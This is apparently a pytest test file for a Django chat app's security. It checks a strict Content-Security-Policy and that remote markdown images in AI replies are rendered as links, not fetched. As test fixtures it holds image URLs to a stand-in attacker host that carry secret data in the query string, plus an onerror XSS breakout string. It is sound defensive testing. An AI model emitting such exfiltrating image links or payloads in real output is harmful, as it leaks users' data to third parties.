"""A strict Content-Security-Policy, and replies that cannot make the browser fetch remote URLs."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from chat.markdown import is_local_image, render_markdown
from chat.models import Conversation, Message
from inference.models import Generation
from mlxweb.config import BASE_DIR

MODEL = "smollm2-135m-instruct"


@pytest.fixture
def conversation(owner, models_root) -> Conversation:  # type: ignore[no-untyped-def]
    return Conversation.objects.create(user=owner, model_id=MODEL, title="Plans")


def _policy(response) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
    header = response["Content-Security-Policy"]
    directives = (part.strip().split() for part in header.split(";") if part.strip())
    return {name: values for name, *values in directives}


@pytest.mark.parametrize("url_name", ["login", "signup"])
def test_it_sends_the_policy_to_anonymous_pages(client: Client, owner, url_name: str) -> None:
    policy = _policy(client.get(reverse(url_name)))
    assert policy["script-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'", "data:"]
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]


def test_it_sends_the_policy_to_the_chat_and_models_pages(
    owner_client: Client, admin_client: Client
) -> None:
    for client, url in ((owner_client, reverse("chat:index")), (admin_client, "/models/")):
        response = client.get(url)
        assert response.status_code == 200
        policy = _policy(response)
        assert "'unsafe-inline'" not in response["Content-Security-Policy"]
        assert "'unsafe-eval'" not in response["Content-Security-Policy"]
        assert policy["img-src"] == ["'self'", "data:"]


def test_no_template_has_inline_script_style_or_handlers() -> None:
    inline_script = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
    handler = re.compile(r"\son[a-z]+\s*=", re.I)
    for path in Path(BASE_DIR / "templates").rglob("*.html"):
        text = path.read_text()
        assert not inline_script.search(text), f"{path}: inline <script>"
        assert "<style" not in text, f"{path}: inline <style>"
        assert not re.search(r"\sstyle\s*=", text), f"{path}: style attribute"
        assert not handler.search(text), f"{path}: inline event handler"
        assert "javascript:" not in text, f"{path}: javascript: URL"


@pytest.mark.parametrize(
    "src",
    [
        "https://attacker.example/leak.png?q=secret",
        "http://attacker.example/x.png",
        "//attacker.example/x.png",
        "HTTPS://attacker.example/x.png",
        "ftp://attacker.example/x.png",
    ],
)
def test_it_shows_remote_images_in_replies_as_links(src: str) -> None:
    html = render_markdown(f"Look: ![the conversation]({src})")
    assert "<img" not in html
    assert 'class="remote-image"' in html
    assert "Image: the conversation" in html
    assert not is_local_image(src)


@pytest.mark.parametrize(
    "src", ["/static/css/app.css", "picture.png", "data:image/png;base64,iVBORw0KGgo="]
)
def test_it_keeps_images_from_the_app_and_data_urls(src: str) -> None:
    assert "<img" in render_markdown(f"![local]({src})")


def test_it_escapes_what_a_remote_image_link_shows() -> None:
    html = render_markdown('![<b>x</b>](https://e.example/"onerror=alert(1))')
    assert "<b>" not in html
    assert '"onerror' not in html  # the quote is percent-encoded, so no attribute breaks out
    assert "Image: &lt;b&gt;x&lt;/b&gt;" in html


def test_it_renders_table_alignment_without_style_attributes() -> None:
    html = render_markdown("|a|b|c|\n|:-|:-:|-:|\n|1|2|3|")
    assert "style=" not in html
    assert 'class="align-left"' in html and 'class="align-center"' in html
    assert 'class="align-right"' in html


def test_a_reply_with_a_remote_image_loads_nothing_remote(
    owner_client: Client, conversation
) -> None:
    generation = Generation.objects.create(
        model_id=MODEL,
        state=Generation.State.COMPLETE,
        text="Done. ![status](https://attacker.example/p.png?c=the+secret+plan)",
        completion_tokens=3,
    )
    Message.objects.create(conversation=conversation, role="assistant", generation=generation)
    response = owner_client.get(reverse("chat:detail", args=[conversation.code]))
    body = response.content.decode()
    assert "attacker.example" in body  # shown, as a link
    assert not re.search(r"<img[^>]+attacker\.example", body)
    assert _policy(response)["img-src"] == ["'self'", "data:"]
